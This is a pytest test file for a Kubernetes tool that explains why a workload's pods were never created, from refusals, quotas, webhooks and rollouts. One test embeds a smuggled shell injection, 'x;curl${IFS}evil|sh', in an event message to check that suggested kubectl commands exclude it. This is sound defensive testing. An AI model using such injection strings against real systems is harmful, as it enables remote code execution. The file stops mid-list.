"""The state that a workload is really in, and why its pods were never created, from its objects and events."""

from __future__ import annotations

import json
from collections.abc import Iterable
from datetime import datetime, timedelta, timezone
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from herodotus_answers.brief import shorten
from herodotus_answers.live.cluster_objects import ClusterObjects
from herodotus_answers.live.codes import CAUSES as POD_CAUSES
from herodotus_answers.live.declarations import LiveState, LiveWorkload
from herodotus_answers.live.quota_amounts import format_limit
from herodotus_answers.live.workload_objects import Workload, find_kinds
from herodotus_answers.live.workloads.cron_schedule import parse_schedule
from herodotus_answers.live.workloads.situation import Situation
from herodotus_answers.live.workloads.uncreated_pods import find_uncreated
from herodotus_answers.live.workloads.workload_autoscaler import explain_autoscaler, find_autoscaler
from herodotus_answers.live.workloads.workload_codes import CAUSES, STATES
from herodotus_answers.live.workloads.workload_pods import add_undo
from herodotus_answers.live.workloads.workload_state import add_state
from herodotus_answers.quantities import parse_quantity

Json = dict[str, Any]
NOW = datetime(2026, 3, 1, 12, 0, tzinfo=timezone.utc)


def at(minutes: float) -> str:
    """Return the time that many minutes before NOW."""
    return (NOW - timedelta(minutes=minutes)).isoformat().replace("+00:00", "Z")


def owned_by(kind: str, name: str) -> list[Json]:
    return [{"kind": kind, "name": name, "controller": True}]


def an_object(kind: str, name: str = "web", spec: Json | None = None, **more: Any) -> Json:
    """Return an object that was created an hour ago; `more` are fields of its metadata, or `status`."""
    status = more.pop("status", {})
    meta = {"name": name, "namespace": "shop", "creationTimestamp": at(60), **more}
    return {"kind": kind, "metadata": meta, "spec": spec or {}, "status": status}


def a_workload(kind: str, spec: Json | None = None, pod_spec: Json | None = None, **more: Any) -> Json:
    """Return a workload named web that wants three pods, unless `spec` says another number."""
    containers = [{"name": "main", "image": "app:1", "resources": {"requests": {"cpu": "500m"}}}]
    template = {"metadata": {"labels": {"app": "web"}}, "spec": {"containers": containers, **(pod_spec or {})}}
    number = {} if kind in ("Job", "CronJob", "DaemonSet") else {"replicas": 3}
    selector = {} if kind in ("Job", "CronJob") else {"selector": {"matchLabels": {"app": "web"}}}
    return an_object(kind, spec={"template": template, **number, **selector, **(spec or {})}, **more)


def a_replica_set(deployment: Json, name: str = "web-6b8", revision: str = "1", **more: Any) -> Json:
    """Return a ReplicaSet of a Deployment's template."""
    annotations = {"deployment.kubernetes.io/revision": revision}
    spec = {key: deployment["spec"][key] for key in ("replicas", "template", "selector")}
    return an_object(
        "ReplicaSet", name, spec, ownerReferences=owned_by("Deployment", "web"), annotations=annotations, **more
    )


def a_pod(
    owner: tuple[str, str], name: str, *, node: str = "", ready: bool = False, message: str = "", **spec: Any
) -> Json:
    waiting = {"waiting": {"reason": "CrashLoopBackOff"}}
    statuses = [{"name": "main", "ready": ready, "restartCount": 3, "state": {"running": {}} if ready else waiting}]
    scheduled = {"type": "PodScheduled", "status": "True" if node else "False", "message": message}
    conditions = [scheduled, {"type": "Ready", "status": "True" if ready else "False"}]
    status: Json = {"phase": "Running" if node else "Pending", "conditions": conditions}
    pod_spec: Json = {"containers": [{"name": "main", "image": "app:1"}], **spec}
    if node:
        pod_spec["nodeName"], status["containerStatuses"] = node, statuses
    uid = f"u-{name}"
    return an_object(
        "Pod", name, pod_spec, status=status, ownerReferences=owned_by(*owner), labels={"app": "web"}, uid=uid
    )


def an_event(about: tuple[str, str], reason: str, message: str, minutes: float = 1) -> Json:
    involved = {"kind": about[0], "name": about[1], "namespace": "shop"}
    event = an_object("Event", f"e{hash((about, reason, minutes))}")
    return event | {
        "involvedObject": involved,
        "reason": reason,
        "message": message,
        "count": 7,
        "lastTimestamp": at(minutes),
    }


def a_node(name: str, labels: Json | None = None, **spec: Any) -> Json:
    return an_object(
        "Node", name, spec, labels=labels or {}, status={"conditions": [{"type": "Ready", "status": "True"}]}
    )


def a_cluster(*objects: Json, unserved: Iterable[str] = (), forbidden: Iterable[str] = ()) -> ClusterObjects:
    """Return a cluster with these objects. Plural names in `unserved` are answered with 404, `forbidden` with 403."""
    missing, refused = set(unserved), set(forbidden)

    def fetch(path: str) -> tuple[int, Json]:
        url = urlsplit(path)
        parts = url.path.strip("/").split("/")
        plural, name = (parts[-1], "") if url.query else (parts[-2], parts[-1])
        if plural in missing | refused:
            return (403 if plural in refused else 404), {}
        kind = {"endpointslices": "endpointslice"}.get(
            plural, plural.removesuffix("es" if plural[-4:] == "sses" else "s")
        )
        items = [each for each in objects if each["kind"].lower() == kind]
        if url.query:
            return 200, {"items": [each for each in items if _is_selected(each, url.query)]}
        return next(((200, each) for each in items if each["metadata"]["name"] == name), (404, {}))

    return ClusterObjects(fetch)


def _is_selected(event: Json, query: str) -> bool:
    involved = event.get("involvedObject")
    if involved is None:
        return True
    if "reason%3D" in query:
        return f"reason%3D{event['reason']}&" in query
    is_named = "involvedObject.name" not in query or f"name%3D{involved['name']}%2C" in query
    return is_named and query.count(f"kind%3D{involved['kind']}&") == 1


def look(kind: str, *objects: Json, explanation: Json | None = None, **options: Any) -> LiveWorkload:
    workload = Workload(kind, "web", "shop", a_cluster(*objects, **options), NOW)
    live: LiveWorkload = {"source": "kube-apiserver", "at": at(0), "zones": []}
    return add_state(live, Situation(workload, lambda _pod: explanation))


def find(kind: str, *objects: Json, **options: Any) -> LiveState:
    state = look(kind, *objects, **options)["state"]
    assert state["code"] in STATES
    assert {cause["code"] for cause in state["causes"]} <= CAUSES.keys() | POD_CAUSES.keys()
    return state


def refused(kind: str, message: str, *objects: Json, workload: Json | None = None, **options: Any) -> Json:
    """Return the first cause of a workload whose pods the API server refuses to create."""
    made = workload or a_workload(kind)
    event = an_event((kind, "web"), "FailedCreate", message)
    state = find(kind, made, event, *objects, **options)
    assert state["code"] == "workload-not-created"
    assert state["causes"][0]["text"] in state["headline"]
    assert state["causes"][0]["source"].startswith("Event FailedCreate of")
    return dict(state["causes"][0])


# --- refusals -------------------------------------------------------------------------------------------------------

FORBIDDEN = 'Error creating: pods "web-x" is forbidden: '
IN_SET = 'create Pod web-0 in StatefulSet web failed error: pods "web-0" is forbidden: '
CALL = 'Error creating: Internal error occurred: failed calling webhook "inject.example.com": failed to call webhook: '
POST = CALL + 'Post "https://injector.mesh.svc:443/in?timeout=9s": dial tcp 10.0.0.9:443: connect: connection refused'


@pytest.mark.parametrize(
    ("kind", "message", "code", "text"),
    [
        (
            "ReplicaSet",
            f"{FORBIDDEN}no PriorityClass with name gold was found",
            "priority-class-missing",
            "gold does not",
        ),
        (
            "StatefulSet",
            f'{IN_SET}error looking up service account shop/db: serviceaccount "db" not found',
            "service-account-missing",
            "ServiceAccount db does not exist in namespace shop",
        ),
        (
            "ReplicaSet",
            f'{FORBIDDEN}pod rejected: RuntimeClass "kata" not found',
            "runtime-class-missing",
            "kata does not",
        ),
        ("DaemonSet", POST, "webhook-failed", "inject.example.com cannot be called: 10.0.0.9:443: connection refused"),
        (
            "Job",
            'Error creating: admission webhook "v.example.com" denied the request: no owner',
            "webhook-denied",
            "v.example.com denies it: no owner",
        ),
        (
            "Job",
            f"{FORBIDDEN}ValidatingAdmissionPolicy 'p' with binding 'b' denied request: too many replicas",
            "policy-denied",
            "ValidatingAdmissionPolicy p (binding b) denies it: too many replicas",
        ),
        (
            "ReplicaSet",
            'Error creating: Pod "web-x" is invalid: spec.containers[0].image: Required value',
            "template-invalid",
            "spec.containers[0].image: Required value",
        ),
        (
            "ReplicaSet",
            f"{FORBIDDEN}unable to create new content in namespace shop because it is being terminated",
            "namespace-terminating",
            "namespace shop is being deleted",
        ),
        ("StatefulSet", f"{IN_SET}something else", "creation-refused", "something else"),
    ],
)
def test_refusal_names_the_object_and_what_is_wrong_with_it(kind: str, message: str, code: str, text: str) -> None:
    workload = a_workload(kind, {"parallelism": 3, "completions": 3} if kind == "Job" else None)
    cause = refused(kind, message, a_node("n1"), workload=workload)
    assert cause["code"] == code
    assert text in cause["text"]


def test_a_command_has_only_names_from_a_message() -> None:
    """Who may write events would otherwise have the reader run a command."""
    said = (
        f'{FORBIDDEN}volume with secret.secretName="key" is not allowed because service account %s does not reference'
    )
    good = refused("ReplicaSet", said % "runner", a_node("n1"))
    assert good["remedies"][0]["command"].startswith("kubectl patch serviceaccount runner -n shop -p")
    bad = refused("ReplicaSet", said % "x;curl${IFS}evil|sh", a_node("n1"))
    assert all("evil" not in str(remedy["command"]) for remedy in bad["remedies"])


def test_pull_secrets_of_an_account_are_not_replaced_by_a_command() -> None:
    """A patch of imagePullSecrets replaces the whole list."""
    said = 'imagePullSecret.Name="pull" is not allowed because service account runner does not reference that'
    cause = refused("ReplicaSet", FORBIDDEN + said, a_node("n1"))
    assert cause["code"] == "secret-not-listed"
    assert cause["remedies"][0]["command"] is None


@pytest.mark.parametrize(("claims", "code"), [(1, "template-invalid"), (0, "webhook-made-invalid")])
def test_volumes_of_claim_templates_are_the_controllers(claims: int, code: str) -> None:
    message = 'create Pod web-0 in StatefulSet web failed error: Pod "web-0" is invalid: spec.volumes[0].name: bad'
    templates = [{"metadata": {"name": "my_data"}, "spec": {}}] * claims
    workload = a_workload("StatefulSet", {"volumeClaimTemplates": templates})
    assert refused("StatefulSet", message, a_node("n1"), workload=workload)["code"] == code


def test_exceeded_quota_has_amounts_and_what_would_be_enough() -> None:
    message = (
        f"{FORBIDDEN}exceeded quota: team, requested: requests.cpu=500m, used: requests.cpu=4, limited: requests.cpu=4"
    )
    pod = a_pod(("ReplicaSet", "web"), "web-a", node="n1", ready=True)
    hard = {"requests.cpu": "4"}
    spec = {"hard": hard, "scopeSelector": {"matchExpressions": [{"scopeName": "PriorityClass", "operator": "Exists"}]}}
    quota = an_object("ResourceQuota", "team", spec, status={"hard": hard, "used": {"requests.cpu": "4"}})
    cause = refused("ReplicaSet", message, pod, quota)
    assert cause["text"].endswith("requests.cpu: each pod asks 500m, used 4 of 4")
    assert "(of pods with PriorityClass Exists)" in cause["text"]
    first, smaller, fewer = cause["remedies"]
    assert (
        first["command"] == """kubectl patch resourcequota team -n shop -p '{"spec":{"hard":{"requests.cpu":"5"}}}'"""
    )
    assert "at most 166m" in smaller["text"]
    assert fewer["command"] == "kubectl scale replicaset web -n shop --replicas=1"


def refuse_by_scope(kind: str, pod_spec: Json, *objects: Json, **spec: Any) -> list[Json]:
    """Return the remedies where a quota of a scope counts the pods of a workload and allows none."""
    message = f"{FORBIDDEN}exceeded quota: team, requested: pods=1, used: pods=0, limited: pods=0"
    hard = {"pods": "0"}
    quota = an_object("ResourceQuota", "team", {"hard": hard, **spec}, status={"hard": hard, "used": hard})
    wanted = {"parallelism": 3, "completions": 3} if kind == "Job" else None
    remedies: list[Json] = refused(kind, message, quota, *objects, workload=a_workload(kind, wanted, pod_spec))[
        "remedies"
    ]
    return remedies


def test_a_quota_of_pods_without_requests_is_left_by_requests() -> None:
    scope = {"matchExpressions": [{"scopeName": "BestEffort", "operator": "Exists"}]}
    hard = {"limits.cpu": "9", "requests.memory": "9Gi", "pods": "9", "requests.nvidia.com/gpu": "1"}
    other = an_object("ResourceQuota", "rest", {"hard": hard, "scopes": ["NotBestEffort"]})
    first, raised = refuse_by_scope("ReplicaSet", {}, other, scopeSelector=scope)
    assert "ResourceQuota team then does not count the pods" in first["text"]
    resources = '{"requests":{"cpu":"100m","memory":"128Mi"},"limits":{"cpu":"100m"}}'
    assert f'"resources":{resources}' in first["command"], "what a quota of the pods with requests demands"
    assert "pods to 3" in raised["text"]


@pytest.mark.parametrize(
    ("kind", "pod_spec", "scope", "operator", "text"),
    [
        ("ReplicaSet", {}, "NotBestEffort", "Exists", ""),
        ("ReplicaSet", {}, "PriorityClass", "In", "give the pods another priority class than high"),
        ("ReplicaSet", {}, "PriorityClass", "NotIn", "give the pods priority class high"),
        ("ReplicaSet", {}, "PriorityClass", "DoesNotExist", "give the pods a priority class"),
        ("ReplicaSet", {"priorityClassName": "high"}, "PriorityClass", "Exists", "give the pods no priority class"),
        ("ReplicaSet", {}, "PriorityClass", "Exists", ""),
        (
            "Job",
            {"activeDeadlineSeconds": 60},
            "Terminating",
            "Exists",
            "give the pods no activeDeadlineSeconds, now 60",
        ),
        ("Job", {}, "NotTerminating", "Exists", "give the pods activeDeadlineSeconds"),
        ("ReplicaSet", {}, "NotTerminating", "Exists", ""),
        ("ReplicaSet", {}, "CrossNamespacePodAffinity", "Exists", "give their terms no namespaces"),
    ],
)
def test_a_quota_of_a_scope_is_left_by_pods_outside_of_it(
    kind: str, pod_spec: Json, scope: str, operator: str, text: str
) -> None:
    values = ["high"] if operator in ("In", "NotIn") else None
    selector = {"scopeName": scope, "operator": operator, "values": values}
    raised, *more = refuse_by_scope(kind, pod_spec, scopeSelector={"matchExpressions": [selector]})
    assert "raise ResourceQuota team" in raised["text"]
    assert [text in each["text"] and "team then does not count them" in each["text"] for each in more] == [True] * bool(
        text
    )
    assert refuse_by_scope(kind, pod_spec)[1:] == []


def test_quota_that_has_room_again_needs_no_fix() -> None:
    message = f"{FORBIDDEN}exceeded quota: team, requested: pods=1, used: pods=5, limited: pods=5"
    quota = an_object("ResourceQuota", "team", status={"hard": {"pods": "5"}, "used": {"pods": "1"}})
    cause = refused("ReplicaSet", message, quota)
    assert ("has room now" in cause["text"], cause["remedies"]) == (True, [])


def test_quota_that_cannot_be_read_gets_no_command() -> None:
    message = f"{FORBIDDEN}exceeded quota: team, requested: pods=1, used: pods=5, limited: pods=5"
    cause = refused("ReplicaSet", message, unserved=["resourcequotas"])
    assert (cause["remedies"][0]["command"], "pods to 8" in cause["remedies"][0]["text"]) == (None, True)


def test_amounts_that_a_quota_counts_are_stated_in_the_owners_template() -> None:
    message = f"{FORBIDDEN}failed quota: rq: must specify limits.memory for: main; requests.cpu for: main"
    deployment = a_workload("Deployment")
    event = an_event(("ReplicaSet", "web-6b8"), "FailedCreate", message)
    cause = find("Deployment", deployment, a_replica_set(deployment), event)["causes"][0]
    patch = '{"limits":{"memory":"128Mi"},"requests":{"cpu":"100m"}}'
    command = cause["remedies"][0]["command"] or ""
    assert command.startswith("kubectl -n shop patch deployment web -p ")
    assert f'"containers":[{{"name":"main","resources":{patch}}}]' in command


def test_limit_range_is_found_and_the_template_is_fitted_to_it() -> None:
    limits = [{"type": "Container", "max": {"cpu": "250m"}}]
    message = f"{FORBIDDEN}maximum cpu usage per Container is 250m. No limit is specified"
    cause = refused("StatefulSet", message, an_object("LimitRange", "small", {"limits": limits}))
    assert (cause["object"], cause["code"]) == ("LimitRange/small", "limit-range")
    assert '"limits":{"cpu":"250m"},"requests":{"cpu":"250m"}' in cause["remedies"][0]["command"]


def test_template_of_a_job_cannot_be_changed_but_that_of_its_cron_job_can() -> None:
    message = f"{FORBIDDEN}failed quota: rq: must specify cpu for: main"
    alone = refused("Job", message, workload=a_workload("Job"))
    assert "delete Job web" in alone["remedies"][0]["text"]
    assert alone["remedies"][0]["command"].startswith("kubectl -n shop get job web -o json | kubectl patch --local")
    job = a_workload("Job", ownerReferences=owned_by("CronJob", "nightly"))
    command = refused("Job", message, workload=job)["remedies"][0]["command"]
    assert command.startswith("""kubectl -n shop patch cronjob nightly -p '{"spec":{"jobTemplate":{"spec":""")


def test_pod_security_is_met_by_a_patch_only_if_that_suffices() -> None:
    level = f'{IN_SET}violates PodSecurity "restricted:latest": runAsNonRoot != true (pod or container "main" must set'
    level += " securityContext.runAsNonRoot=true)"
    cause = refused("StatefulSet", level)
    assert '"securityContext":{"runAsNonRoot":true}' in cause["remedies"][0]["command"]
    assert cause["text"].endswith('restricted, which the pod violates: runAsNonRoot != true (container "main")')
    cause = refused("StatefulSet", f'{level}, hostPath volumes (volume "logs")')
    assert (cause["remedies"][0]["command"], "hostPath volumes" in cause["remedies"][0]["text"]) == (None, True)


def test_webhook_configuration_and_service_are_looked_up() -> None:
    hooks = [{"name": "other"}, {"name": "inject.example.com", "failurePolicy": "Fail"}]
    configuration = an_object("MutatingWebhookConfiguration", "mesh") | {"webhooks": hooks}
    cause = refused("ReplicaSet", POST, configuration)
    assert "(Service mesh/injector, which does not exist now)" in cause["text"]
    assert "/webhooks/1/failurePolicy" in cause["remedies"][1]["command"]
    service, slice_ = an_object("Service", "injector"), an_object("EndpointSlice", "i") | {"endpoints": []}
    assert "has no ready endpoint" in refused("ReplicaSet", POST, service, slice_)["text"]
    assert "which" not in refused("ReplicaSet", POST, forbidden=["services"])["text"]


def test_object_that_exists_by_now_is_not_said_to_be_missing() -> None:
    message = f"{FORBIDDEN}no PriorityClass with name gold was found"
    cause = refused("ReplicaSet", message, an_object("PriorityClass", "gold"))
    assert ("it exists now" in cause["text"], cause["remedies"]) == (True, [])


def test_refusal_before_the_last_creation_does_not_count() -> None:
    old = an_event(("ReplicaSet", "web"), "FailedCreate", f"{FORBIDDEN}exceeded", minutes=9)
    new = an_event(("ReplicaSet", "web"), "SuccessfulCreate", "Created pod: web-a", minutes=3)
    assert [c["code"] for c in find("ReplicaSet", a_workload("ReplicaSet"), old, new)["causes"]] == [
        "creation-unexplained"
    ]


def test_workloads_without_pods_are_found_behind_many_whose_pods_were_created_since() -> None:
    objects: list[Json] = []
    for number in range(12):
        name = f"web-{number}"
        objects.append(an_object("StatefulSet", name, {"replicas": 1}, status={"replicas": int(number < 8)}))
        objects.append(an_event(("StatefulSet", name), "FailedCreate", f"{FORBIDDEN}exceeded", minutes=number))
    for name, ended in (("backup", {}), ("done", {"conditions": [{"type": "Complete", "status": "True"}]})):
        spec = {"parallelism": 2, "completions": 3}
        objects.append(an_object("Job", name, spec, status={"active": 1, "succeeded": 1, **ended}))
        objects.append(an_event(("Job", name), "FailedCreate", f"{FORBIDDEN}exceeded", minutes=20))
    found = find_uncreated(a_cluster(*objects), "shop", NOW)
    assert [(each["workload"], each["missing"]) for each in found.workloads] == [
        *((f"StatefulSet/web-{number}", 1) for number in range(8, 12)),
        ("Job/backup", 1),
    ]
    assert found.omitted == 1, "nothing looks at more than five"
    many = [each for each in objects if "web-" not in each["metadata"]["name"]]
    for number in range(30):
        many.append(an_object("StatefulSet", f"db-{number}", {"replicas": 1}))
        many.append(an_event(("StatefulSet", f"db-{number}"), "FailedCreate", "exceeded"))
    found = find_uncreated(a_cluster(*many), "shop", NOW)
    assert (len(found.workloads), found.omitted) == (5, 37)


def test_the_newest_refusal_may_be_on_a_later_page_of_events() -> None:
    old, new = (an_object("StatefulSet", name, {"replicas": 1}) for name in ("old", "new"))
    pages = [[an_event(("StatefulSet", "old"), "FailedCreate", "exceeded", minutes=9)]]
    pages += [[an_event(("StatefulSet", "new"), "FailedCreate", "exceeded", minutes=2)]]
    cluster = a_cluster(old, new, *pages[0], *pages[1])

    def fetch(path: str) -> tuple[int, Json]:
        query = parse_qs(urlsplit(path).query)
        if "reason=FailedCreate" not in query.get("fieldSelector", ()):
            return cluster._fetch(path)
        number = int(query.get("continue", ["0"])[0])
        more = {"metadata": {"continue": str(number + 1)}} if number + 1 < len(pages) else {}
        return 200, {"items": pages[number], **more}

    found = find_uncreated(ClusterObjects(fetch), "shop", NOW)
    assert [each["workload"] for each in found.workloads] == ["StatefulSet/new", "StatefulSet/old"]


@pytest.mark.parametrize(("created_by", "counts"), [("web-new", False), ("web-old", True)])
def test_refusal_of_an_earlier_replica_set_does_not_count_once_the_newest_creates(
    created_by: str, counts: bool
) -> None:
    deployment = a_workload("Deployment")
    sets = [a_replica_set(deployment, "web-old", "1"), a_replica_set(deployment, "web-new", "2")]
    refusing = "web-new" if counts else "web-old"
    old = an_event(("ReplicaSet", refusing), "FailedCreate", f"{FORBIDDEN}exceeded quota", minutes=9)
    new = an_event(("ReplicaSet", created_by), "SuccessfulCreate", "Created pod: web-a", minutes=3)
    state = find("Deployment", deployment, *sets, old, new)
    assert ("exceeded quota" in state["headline"]) is counts


def test_without_events_the_template_is_checked_against_the_cluster() -> None:
    workload = a_workload("StatefulSet", pod_spec={"serviceAccountName": "db", "priorityClassName": "gold"})
    state = find("StatefulSet", workload, unserved=["priorityclasses"], forbidden=["events"])
    assert [cause["object"] for cause in state["causes"]] == ["ServiceAccount/db"]
    assert state["unread"] == ["Event"]


# --- states ---------------------------------------------------------------------------------------------------------


def test_paused_deployment_without_replica_set_is_resumed() -> None:
    state = find("Deployment", a_workload("Deployment", {"paused": True}))
    assert state["code"] == "workload-paused"
    assert state["causes"][0]["remedies"][0]["command"] == "kubectl rollout resume deployment/web -n shop"


def test_paused_deployment_does_not_hide_a_refusal() -> None:
    deployment = a_workload("Deployment", {"paused": True})
    event = an_event(("ReplicaSet", "web-6b8"), "FailedCreate", f"{FORBIDDEN}no PriorityClass with name gold was found")
    state = find("Deployment", deployment, a_replica_set(deployment), event)
    assert state["causes"][0]["code"] == "priority-class-missing"


@pytest.mark.parametrize(
    ("minimum", "code", "actor"),
    [
        (0, "autoscaler-zero", "HorizontalPodAutoscaler"),
        (2, "autoscaler-disabled", "user"),
        (None, "replicas-zero", "user"),
    ],
)
def test_workload_at_zero_names_who_scales_it(minimum: int | None, code: str, actor: str) -> None:
    target = {"kind": "Deployment", "name": "web"}
    spec = {"scaleTargetRef": target, "minReplicas": minimum, "maxReplicas": 5}
    autoscaler = [] if minimum is None else [an_object("HorizontalPodAutoscaler", "web", spec)]
    state = find("Deployment", a_workload("Deployment", {"replicas": 0}), *autoscaler)
    assert (state["code"], state["causes"][0]["code"], state["actor"]) == ("workload-scaled-to-zero", code, actor)


def _a_scaled_autoscaler(**status: Any) -> Json:
    """Return the HorizontalPodAutoscaler that KEDA makes for a ScaledObject."""
    spec = {"scaleTargetRef": {"kind": "Deployment", "name": "web"}, "minReplicas": 1, "maxReplicas": 3}
    return an_object(
        "HorizontalPodAutoscaler", "keda-hpa-web", spec, ownerReferences=owned_by("ScaledObject", "web"), status=status
    )


def test_no_change_that_the_owner_of_an_autoscaler_undoes_is_advised() -> None:
    event = an_event(("ScaledObject", "web"), "KEDAScaleTargetDeactivated", "Deactivated web from 1 to 0")
    zero = find("Deployment", a_workload("Deployment", {"replicas": 0}), _a_scaled_autoscaler(), event)
    assert (zero["actor"], zero["causes"][0]["code"]) == ("ScaledObject web", "autoscaler-zero")
    assert "Deactivated web from 1 to 0" in zero["headline"]
    limited = {"type": "ScalingLimited", "status": "True", "reason": "TooManyReplicas"}
    metric = {"type": "External", "external": {"metric": {"name": "queue"}, "current": {"averageValue": "90"}}}
    hpa = _a_scaled_autoscaler(conditions=[limited], currentMetrics=[metric])
    target = {"metric": {"name": "queue"}, "target": {"averageValue": "30"}}
    hpa["spec"]["metrics"] = [{"type": "External", "external": target}]
    full = Workload("Deployment", "web", "shop", a_cluster(a_workload("Deployment"), hpa), NOW)
    (cause,) = explain_autoscaler(full, find_autoscaler(full))
    advice = [("maxReplicaCount of ScaledObject web" in each["text"], each["command"]) for each in cause["remedies"]]
    assert advice == [(True, None)]
    assert not any(each["command"] for cause in zero["causes"] for each in cause["remedies"])


@pytest.mark.parametrize(
    ("met", "words"),
    [
        (["SuccessCriteriaMet"], "Succeeded, and its last pods are being ended"),
        (["SuccessCriteriaMet", "Complete"], "Complete"),
    ],
)
def test_job_that_succeeds_by_its_policy_lacks_no_pods(met: list[str], words: str) -> None:
    told = {"status": "True", "reason": "SuccessPolicy", "message": "Matched rules at index 0"}
    conditions = [{"type": each, **told} for each in met]
    job = a_workload("Job", {"completions": 4, "parallelism": 4}, status={"succeeded": 1, "conditions": conditions})
    state = find("Job", job)
    assert (state["code"], state["causes"]) == ("workload-complete", [])
    assert state["headline"].startswith(words)
    assert "successPolicy (Matched rules at index 0)" in state["headline"]


def test_stateful_set_waits_for_an_earlier_pod_only_in_order() -> None:
    pod = a_pod(("StatefulSet", "web"), "web-0", node="n1")
    state = find("StatefulSet", a_workload("StatefulSet"), pod, a_node("n1"))
    assert state["causes"][0]["code"] == "waits-for-earlier-pod"
    assert "web-1, web-2 wait until web-0 is ready" in state["headline"]
    parallel = a_workload("StatefulSet", {"podManagementPolicy": "Parallel"})
    codes = [cause["code"] for cause in find("StatefulSet", parallel, pod, a_node("n1"))["causes"]]
    assert codes == ["container-crash-loop"]


def test_nodes_without_a_pod_of_a_daemon_set_are_no_error_unless_it_lacks() -> None:
    nodes = [a_node("n1"), a_node("n2", taints=[{"key": "gpu", "effect": "NoSchedule"}])]
    nodes.append(a_node("n3", taints=[{"key": "node.kubernetes.io/unschedulable", "effect": "NoSchedule"}]))
    pods = [a_pod(("DaemonSet", "web"), f"web-{n}", node=n, ready=True) for n in ("n1", "n3")]
    daemon_set = a_workload("DaemonSet", status={"desiredNumberScheduled": 2})
    live = look("DaemonSet", daemon_set, *nodes, *pods)
    assert (live["state"]["code"], live["state"]["actor"]) == ("workload-ready", None)
    assert [(each["code"], each["nodes"]) for each in live["nodesWithoutPod"]] == [("taint", ["n2"])]
    gone = look("DaemonSet", *nodes, *pods)  # nothing is known of what it wanted
    assert (gone["counts"]["wanted"], gone["counts"]["notCreated"]) == (None, 0)
    assert "nodesWithoutPod" not in gone
    selective = a_workload(
        "DaemonSet", pod_spec={"nodeSelector": {"disk": "ssd"}}, status={"desiredNumberScheduled": 0}
    )
    assert find("DaemonSet", selective, *nodes)["causes"][0]["code"] == "no-node-selected"


def rollout(cpu: str) -> list[Json]:
    """Return a Deployment whose new pod waits for a node beside two old pods that ask for 500m."""
    stuck = {"type": "Progressing", "reason": "ProgressDeadlineExceeded", "lastTransitionTime": at(3)}
    old = a_workload("Deployment", {"replicas": 2})
    new = a_workload("Deployment", {"replicas": 2}, status={"conditions": [stuck]})
    containers = [{"name": "main", "image": "app:2", "resources": {"requests": {"cpu": cpu}}}]
    new["spec"]["template"] = {**new["spec"]["template"], "spec": {"containers": containers}}
    sets = [a_replica_set(old, "web-old"), a_replica_set(new, "web-new", "2")]
    pods = [a_pod(("ReplicaSet", "web-old"), f"web-old-{n}", node="n1", ready=True) for n in "ab"]
    return [new, *sets, *pods, a_pod(("ReplicaSet", "web-new"), "web-new-c", message="0/1 nodes are available")]


@pytest.mark.parametrize(("cpu", "position"), [("500m", 0), ("600m", 1)])
def test_rollout_that_blocks_itself_may_delete_an_old_pod_first(cpu: str, position: int) -> None:
    state = find("Deployment", *rollout(cpu), a_node("n1"))
    assert state["code"] == "workload-rollout-stuck"
    assert [cause["code"] for cause in state["causes"]].index("old-pods-kept") == position
    assert "1 of the newest template (not ready), 2 of an earlier one" in state["headline"]


UNDO = "kubectl rollout undo deployment/web -n shop"
STATEFUL_UNDO = "kubectl rollout undo statefulset/web -n shop"


def a_suggestion(**parts: Any) -> Json:
    """Return a suggestion for the pods of Deployment web, of a field that its template does not state."""
    unset = {"field": "spec.template.spec.hostNetwork", "also": [], "deletes": []}
    return {"text": "lower it", "object": "Deployment/web", "node": "n1", **unset, **parts}


def an_evaluation(pod: str, *checked: bool) -> Json:
    """Return an explanation of a waiting pod, with one suggestion for each value of `checked`."""
    suggestions = [
        a_suggestion(text=f"lower it, way {n}", command=f"kubectl {n}", checked=is_checked)
        for n, is_checked in enumerate(checked)
    ]
    return {
        "headline": "No node fits: too little cpu.",
        "metadata": {"uid": f"u-{pod}"},
        "outcome": {"node": None},
        "attempt": {"source": "evaluated"},
        "rejections": [],
        "suggestions": suggestions,
    }


def list_commands(kind: str, *objects: Json, explanation: Json) -> list[str | None]:
    """Return the commands of the remedies for waiting pods, and check that none is offered twice."""
    causes = look(kind, *objects, explanation=explanation)["state"]["causes"]
    every = [remedy["command"] for cause in causes for remedy in cause["remedies"] if remedy["command"]]
    assert len(set(every)) == len(every)
    return [remedy["command"] for cause in causes if cause["code"] == "pods-waiting" for remedy in cause["remedies"]]


@pytest.mark.parametrize(
    ("pods", "commands"),
    [
        pytest.param(1, ["kubectl 0", UNDO, "kubectl 1"], id="after a fix that is checked for all its pods"),
        pytest.param(3, [UNDO, "kubectl 0", "kubectl 1"], id="before a fix that is checked for one of them"),
    ],
)
def test_a_rollout_whose_pods_wait_may_be_undone(pods: int, commands: list[str]) -> None:
    more = [
        a_pod(("ReplicaSet", "web-new"), f"web-new-{n}", message="0/1 nodes are available") for n in range(pods - 1)
    ]
    explanation = an_evaluation("web-new-c", True, False)
    assert list_commands("Deployment", *rollout("600m"), *more, a_node("n1"), explanation=explanation) == commands


def test_a_pod_that_a_rollout_waits_for_has_the_fixes_that_its_workload_has() -> None:
    objects = [*rollout("600m"), a_node("n1")]
    of_workload = list_commands("Deployment", *objects, explanation=an_evaluation("web-new-c", True, False))
    answer = add_undo(an_evaluation("web-new-c", True, False), objects[-2], a_cluster(*objects), NOW)
    assert [each["command"] for each in answer["suggestions"]] == of_workload == ["kubectl 0", UNDO, "kubectl 1"]
    undo = answer["suggestions"][1]
    assert (undo["rollsOut"], undo["checked"]) == (["Deployment/web"], False)
    assert undo["rights"] == [{"verb": "patch", "resource": "deployments.apps", "namespace": "shop"}]


def test_a_pod_of_the_template_that_runs_is_not_helped_by_an_undone_rollout() -> None:
    objects = [*rollout("600m"), a_node("n1"), a_pod(("ReplicaSet", "web-old"), "web-old-c", message="0/1 nodes")]
    answer = add_undo(an_evaluation("web-old-c", True), objects[-1], a_cluster(*objects), NOW)
    assert [each["command"] for each in answer["suggestions"]] == ["kubectl 0"]


@pytest.mark.parametrize("change", ["paused", "none of it runs", "not the newest", "already undone"])
def test_a_rollout_is_undone_only_if_that_restores_what_runs(change: str) -> None:
    made = rollout("600m")
    deployment, old, _new, *pods = made
    if change == "paused":
        deployment["spec"]["paused"] = True
    elif change == "none of it runs":
        made = [each for each in made if each not in pods[:2]]
    elif change == "not the newest":
        deployment["spec"]["template"] = an_object("x", spec={"containers": []})
    else:
        old["metadata"]["annotations"]["deployment.kubernetes.io/revision"] = "3"
    explanation = an_evaluation("web-new-c", True)
    assert UNDO not in list_commands("Deployment", *made, a_node("n1"), explanation=explanation)


@pytest.mark.parametrize(
    ("spec", "commands"),
    [
